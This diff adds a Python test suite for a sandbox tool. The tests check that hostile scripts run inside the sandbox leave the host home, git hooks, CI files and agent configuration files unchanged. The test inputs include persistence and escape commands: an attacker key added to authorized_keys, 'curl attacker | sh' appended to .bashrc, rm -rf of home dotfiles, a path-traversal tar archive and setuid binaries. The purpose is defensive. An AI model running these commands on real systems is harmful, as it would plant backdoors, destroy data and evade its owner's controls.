@@ -1,0 +1,339 @@
+"""Writing where it lasts: the home, the project's hooks and editors, and tricks on the commit."""
+
+import json
+import os
+import socket
+import stat
+import sys
+
+sys.path.insert(0, os.path.join(os.path.dirname(__file__), "../support"))
+from harness import IS_ROOT, require, test  # noqa: E402
+
+PYTHON = "/usr/bin/python3"
+
+
+def host_unchanged(t, script, *, what=None, options=()):
+    """Runs `script` bare in a copy of the home (control: it changes something), then in the sandbox:
+    the home apart from the project stays as it was."""
+    before = t.fingerprint(t.home)
+    t.bare("sh", "-c", script)
+    changed = t.fingerprint(t.home)
+    t.true(changed != before, f"control: {what or script}")
+    restore(t, before, changed)
+    t.equal(t.fingerprint(t.home), before, "restored")
+    result = t.sandbox("sh", "-c", script, options=options)
+    mine = lambda found: {p: v for p, v in found.items()  # noqa: E731
+                          if not p.startswith((".local", ".cache", "project"))}
+    t.equal(mine(t.fingerprint(t.home)), mine(before), f"the home after {result}")
+    return result
+
+
+CONTENTS = {}
+
+
+def restore(t, before, changed):
+    from harness import CREDENTIAL_FILES, SECRET
+
+    for path in sorted(changed.keys() - before.keys(), reverse=True):
+        full = t.home / path
+        full.rmdir() if full.is_dir() and not full.is_symlink() else full.unlink()
+    for name, text in CREDENTIAL_FILES.items():
+        full = t.home / name
+        mode = stat.S_IMODE(before[name][0])
+        t.write(full, text.format(secret=SECRET))
+        full.chmod(mode)
+
+
+@test
+def authorized_keys(t):
+    """~/.ssh/authorized_keys is not changed"""
+    host_unchanged(t, "mkdir -p ~/.ssh; echo attacker >> ~/.ssh/authorized_keys")
+
+
+@test
+def shell_start_files(t):
+    """~/.bashrc, ~/.profile and ~/.zshrc are not changed"""
+    host_unchanged(t, "echo 'curl attacker | sh' >> ~/.bashrc; echo x > ~/.profile; echo x > ~/.zshrc")
+
+
+@test
+def units_and_autostart(t):
+    """no systemd unit, autostart entry or startup hook of an interpreter is left in the home"""
+    host_unchanged(t, "for d in .config/systemd/user .config/autostart .local/bin .claude "
+                   ".config/git; do mkdir -p ~/$d; echo x > ~/$d/evil; done; echo x > ~/.gitconfig")
+
+
+@test
+def shredded_home(t):
+    """removing everything below the home removes nothing of the host's"""
+    require(str(t.home).startswith(str(t.base)), "a scratch home")
+    before = t.fingerprint(t.home)
+    control = t.base / "control-home"
+    t.bare("cp", "-a", t.home, control)
+    t.bare("sh", "-c", "rm -rf ~/.[a-z]* ~/neighbour", env={"HOME": control})
+    t.equal(os.listdir(control), ["project"], "control")
+    t.sandbox("sh", "-c", "rm -rf ~/.[a-z]* ~/neighbour ~/project/* 2>/dev/null; exit 0")
+    after = t.fingerprint(t.home)
+    t.equal({p: v for p, v in before.items() if after.get(p) != v}, {})
+
+
+@test
+def neighbouring_projects(t):
+    """projects beside this one, and directories above it, are not changed"""
+    host_unchanged(t, "echo x >> ~/neighbour/.env; mkdir -p ../node_modules/evil; echo x > ../package.json")
+
+
+PROTECTED = [".git/hooks/pre-commit", ".git/config", ".vscode/tasks.json", ".github/workflows/ci.yml",
+             ".envrc", ".husky/pre-commit", ".claude/settings.json", ".mcp.json", "CLAUDE.md",
+             ".npmrc", ".gitlab-ci.yml", ".devcontainer/devcontainer.json", ".idea/workspace.xml",
+             ".cursor/rules", "AGENTS.md", ".yarnrc.yml"]
+
+
+def plant(path, text="planted"):
+    return f"mkdir -p $(dirname {path}); echo '{text}' >> {path}; "
+
+
+def planting(profile, exists):
+    def body(t):
+        t.succeeded(t.bare("git", "init", "-q"))
+        if exists:
+            for path in PROTECTED:
+                t.write(path, "the owner's\n")
+        t.bare("cp", "-a", t.project, t.base / "control")
+        script = "".join(map(plant, PROTECTED))
+        t.succeeded(t.bare("sh", "-c", script, cwd=t.base / "control"))
+        t.contains((t.base / "control/.git/hooks/pre-commit").read_text(), "planted", "control")
+        before = t.fingerprint()
+        result = t.succeeded(t.sandbox("sh", "-c", script, options=["--profile", profile]))
+        t.equal(t.fingerprint(), before, "the project")
+        logged = {event["details"]["path"] for event in result.of_type("change.protected")}
+        for path in PROTECTED:
+            known = any(path == other or path.startswith(other + "/") for other in logged)
+            t.true(known, f"{path} in the log, which has {logged}")
+        t.true(all(e["severity"] == "alert" for e in result.of_type("change.protected")), "alerts")
+        t.contains(result.err, "ALERT", "the summary")
+
+    body.__doc__ = (f"with profile {profile}, hooks, CI, editor and agent files "
+                    f"{'that exist' if exists else 'that do not exist yet'} are not changed")
+    test(body)
+
+
+for one in ("npm", "generic"):
+    planting(one, False)
+    planting(one, True)
+
+
+@test
+def git_replaced(t):
+    """.git is not replaced by a file or link that leads elsewhere"""
+    t.succeeded(t.bare("git", "init", "-q"))
+    before = t.fingerprint()
+    for script in ("rm -rf .git; echo 'gitdir: ./evil' > .git; mkdir evil",
+                   "mv .git moved; ln -s moved .git", "rm -rf .git"):
+        result = t.sandbox("sh", "-c", script, options=["--profile", "npm"])
+        t.equal(t.fingerprint(), before, f"after {script}: {result}")
+        t.true(result.of_type("change.protected", "change.held"), result.events)
+
+
+@test
+def unexpected_changes(t):
+    """with an install profile, changed sources and package.json are held back"""
+    t.write("src/index.js", "original\n")
+    t.write("package.json", '{"name": "app"}\n')
+    before = t.fingerprint()
+    script = "echo evil >> src/index.js; echo '{}' > package.json; echo x > new.js; rm -f src/none"
+    result = t.sandbox("sh", "-c", script, options=["--profile", "npm"])
+    t.equal(t.fingerprint(), before)
+    held = {event["details"]["path"] for event in result.of_type("change.held", "change.protected")}
+    t.true({"src/index.js", "new.js"} <= held, f"{held}; {result}")
+
+
+@test
+def archive_with_dots(t):
+    """an archive with ../ entries and linked directories writes nothing outside the project"""
+    t.write("make.py", """
+import io, tarfile
+with tarfile.open('evil.tar', 'w') as archive:
+    def add(name, **how):
+        info = tarfile.TarInfo(name)
+        data = how.pop('data', b'')
+        for key, value in how.items(): setattr(info, key, value)
+        info.size = len(data)
+        archive.addfile(info, io.BytesIO(data))
+    add('../outside.txt', data=b'x')
+    add('../.ssh/authorized_keys', data=b'attacker')
+    add('dir', type=tarfile.SYMTYPE, linkname='../.ssh')
+    add('dir/planted', data=b'x')
+""")
+    t.succeeded(t.bare(PYTHON, "make.py"))
+    host_unchanged(t, "tar -xPf evil.tar; rm -f dir; true")
+
+
+@test
+def links_for_the_commit(t):
+    """symbolic links that are planted where the commit will write are not followed"""
+    t.write("packages/a/file", "old\n")
+    t.write(t.home / "victim/file", "the owner's\n")
+    script = f"""
+        rm -rf packages; ln -s {t.home}/victim packages
+        mkdir -p node_modules; ln -s {t.home}/.ssh node_modules/dir
+        ln -s {t.home}/.bashrc node_modules/file; ln -s ../.. node_modules/up"""
+    before = t.fingerprint(t.home / "victim"), t.fingerprint(t.home / ".ssh")
+    result = t.succeeded(t.sandbox("sh", "-c", script, options=["--profile", t.accepting_profile()]))
+    t.equal((t.fingerprint(t.home / "victim"), t.fingerprint(t.home / ".ssh")), before, result)
+    t.equal(os.readlink(t.project / "packages"), f"{t.home}/victim", "the link itself is committed")
+
+
+@test
+def link_of_the_host_in_the_way(t):
+    """a link that stands in the project already is not written through"""
+    (t.home / "victim").mkdir()
+    (t.project / "node_modules").symlink_to(t.home / "victim")
+    script = "mkdir -p node_modules/x && echo x > node_modules/x/y"
+    t.succeeded(t.bare("sh", "-c", script))
+    t.true((t.home / "victim/x/y").exists(), "control")
+    t.bare("rm", "-rf", t.home / "victim/x")
+    t.sandbox("sh", "-c", script + "; true", options=["--profile", t.accepting_profile()])
+    t.equal(os.listdir(t.home / "victim"), [])
+
+
+@test
+def hard_links(t):
+    """no hard link joins a file of the host with one of the project"""
+    t.succeeded(t.bare("ln", t.home / ".bashrc", "linked"), "control")
+    (t.project / "linked").unlink()
+    for path in (t.home / ".bashrc", "/etc/passwd", "/usr/bin/env"):
+        result = t.sandbox("sh", "-c", f"ln {path} linked")
+        t.true(result.code != 0, path)
+        t.true("Invalid cross-device" in result.err or "No such file" in result.err
+               or "not permitted" in result.err, result)
+
+
+@test
+def set_user_id_bits(t):
+    """set-user-ID and set-group-ID bits are left out of the commit, and logged"""
+    script = "cp /bin/true tool; chmod 6755 tool; stat -c %a tool"
+    t.contains(t.bare("sh", "-c", script).out, "6755", "control")
+    (t.project / "tool").unlink()
+    result = t.succeeded(t.sandbox("sh", "-c", script, options=["--profile", t.accepting_profile()]))
+    t.equal(oct((t.project / "tool").stat().st_mode & 0o7777), "0o755", result)
+    logged(t, result, "tool")
+
+
+def logged(t, result, path):
+    found = [e for e in result.of_type("change.stripped") if e["details"]["path"] == path]
+    t.true(found, f"change.stripped of {path}: {result.events}")
+
+
+@test
+def special_files(t):
+    """FIFOs, sockets and device nodes do not get into the project, and do not hang the commit"""
+    program = """
+import os, socket, stat
+os.mkfifo('fifo')
+socket.socket(socket.AF_UNIX).bind('sock')
+for name, device in (('null', os.makedev(1, 3)), ('whiteout', os.makedev(0, 0))):
+    try:
+        os.mknod(name, 0o666 | stat.S_IFCHR, device)
+        print('made', name)
+    except OSError as error:
+        print('blocked', name, error.strerror)
+open('plain', 'w').close()
+"""
+    control = t.succeeded(t.bare(PYTHON, "-c", program))
+    t.true(IS_ROOT <= ("made null" in control.out), "control")
+    for path in t.project.iterdir():
+        path.unlink()
+    result = t.succeeded(t.sandbox(PYTHON, "-c", program, options=["--profile", t.accepting_profile()]))
+    t.lacks(result.out, "made null")
+    t.equal(os.listdir(t.project), ["plain"])
+    logged(t, result, "fifo")
+    logged(t, result, "sock")
+
+
+@test
+def forged_overlay_marks(t):
+    """extended attributes and whiteouts that look like overlayfs' own change nothing outside"""
+    t.write("keep/file", "keep\n")
+    program = """
+import os
+os.makedirs('d')
+for name, value in (('opaque', b'y'), ('redirect', b'/../../.ssh'), ('origin', b'x')):
+    for path in ('d', 'keep'):
+        try:
+            os.setxattr(path, 'user.overlay.' + name, value)
+            print('set', path, name)
+        except OSError as error:
+            print('blocked', path, name, error.strerror)
+"""
+    t.contains(t.bare(PYTHON, "-c", program).out, "set keep opaque", "control")
+    for path in ("d", "keep"):
+        for name in ("opaque", "redirect", "origin"):
+            os.removexattr(t.project / path, f"user.overlay.{name}")
+    os.rmdir(t.project / "d")
+    t.succeeded(t.sandbox(PYTHON, "-c", program, options=["--profile", t.accepting_profile()]))
+    t.equal((t.project / "keep/file").read_text(), "keep\n")
+    for path in ("d", "keep"):
+        t.equal([x for x in os.listxattr(t.project / path) if "overlay" in x], [], path)
+
+
+@test
+def own_configuration(t):
+    """configuration of sandbox-run, in the home and in the project, cannot be changed"""
+    t.write(t.home / ".config/sandbox-run/config.toml", "allow_hosts = []\n")
+    script = ("mkdir -p ~/.config/sandbox-run; echo 'allow_hosts = [\"evil.example.com\"]' > "
+              "~/.config/sandbox-run/config.toml; echo x > .sandbox-run.toml")
+    result = t.sandbox("sh", "-c", script)
+    t.equal((t.home / ".config/sandbox-run/config.toml").read_text(), "allow_hosts = []\n")
+    t.true(not (t.project / ".sandbox-run.toml").exists(), result)
+
+
+@test
+def state_directory(t):
+    """the state directory (logs, held changes) cannot be seen or changed from inside"""
+    t.succeeded(t.sandbox("sh", "-c", "echo x > .envrc"))
+    state = t.home / ".local/state/sandbox-run"
+    t.true(state.exists() and os.listdir(state), "control: it is there")
+    t.equal(stat.S_IMODE(state.stat().st_mode) & 0o077, 0, "others cannot read it")
+    result = t.sandbox("sh", "-c", f"ls -A {state}; mount | grep -c sandbox-run/ || true")
+    t.contains(result.err, "No such file")
+
+
+@test
+def fake_helpers_in_the_project(t):
+    """programs in node_modules/.bin are not run by sandbox-run itself at the next start"""
+    marker = t.base / "helper-ran"
+    for name in ("npm", "sh", "git", "unshare", "newuidmap", "mount", "python3", "node"):
+        t.write(f"node_modules/.bin/{name}", f"#!/bin/sh\ntouch {marker}\n", mode=0o755)
+    path = f"{t.project}/node_modules/.bin:{os.environ['PATH']}"
+    t.bare("git", "--version", env={"PATH": path})
+    t.true(marker.exists(), "control")
+    marker.unlink()
+    t.sandbox("/bin/true", env={"PATH": path}, options=["--profile", "npm"])
+    t.true(not marker.exists(), "a helper ran outside the sandbox")
+
+
+@test
+def odd_trees(t):
+    """a deep tree, a sparse file, unreadable directories and a million-entry name do not stop the commit"""
+    script = """
+        d=.; for i in $(seq 200); do d=$d/d$i; done; mkdir -p $d; echo x > $d/deep
+        truncate -s 100G sparse; mkdir closed; echo x > closed/file; chmod 000 closed
+        """
+    options = ["--profile", t.accepting_profile()]
+    t.succeeded(t.sandbox("sh", "-c", script, options=options))
+    t.equal(os.stat(t.project / "sparse").st_size, 100 << 30)
+    t.true(os.stat(t.project / "sparse").st_blocks < 1000, "sparse still")
+    t.equal(stat.S_IMODE((t.project / "closed").stat().st_mode), 0)
+    (t.project / "closed").chmod(0o700)
+
+
+@test
+def escape_sequences(t):
+    """names with escape sequences and newlines forge nothing on the terminal or in the log"""
+    program = ("import os\nos.makedirs(b'.vscode')\n"
+               "open(b'.vscode/\\x1b[2Jx\\nsandbox-run: nothing blocked', 'w').close()")
+    result = t.succeeded(t.sandbox(PYTHON, "-c", program))
+    t.lacks(result.err, "\x1b")
+    t.true(not any(line.startswith("sandbox-run: nothing blocked") for line in result.err.splitlines()), result)
+    t.lacks(json.dumps(result.events, ensure_ascii=False), "\x1b")
